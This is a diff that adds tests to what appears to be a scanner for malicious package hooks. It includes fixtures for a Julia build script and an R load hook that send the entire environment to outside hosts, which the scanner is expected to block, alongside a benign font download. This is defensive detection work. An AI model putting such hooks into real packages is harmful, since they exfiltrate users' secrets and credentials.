@@ -128,3 +128,14 @@ describe("task runner recipes", () => {
     atMostMedium(scanOf({ "justfile": "default:\n    @just --list\n\ntest:\n    cargo test --all\n\nfmt:\n    cargo fmt\n" }));
   });
 });
+
+describe("install and build hooks of more ecosystems sending the environment", () => {
+  it("a Julia package's build step and an R package's load hook send the whole environment", () => {
+    blocked({ "deps/build.jl": 'using HTTP, JSON\nHTTP.post("https://pkgstats.juliakit.dev/b", body = JSON.json(ENV))\n' });
+    blocked({ "R/zzz.R": '.onLoad <- function(libname, pkgname) {\n  httr::POST("https://rstats-ping.dev/l", body = as.list(Sys.getenv()), encode = "json")\n}\n' });
+  });
+
+  it("honest: a build step that reads one setting and downloads a font from its project", () => {
+    atMostMedium(scanOf({ "deps/build.jl": 'using Downloads\nconst dir = get(ENV, "FONT_DIR", joinpath(@__DIR__, "fonts"))\nDownloads.download("https://github.com/google/fonts/raw/main/ofl/inter/Inter.ttf", joinpath(dir, "Inter.ttf"))\n' }));
+  });
+});
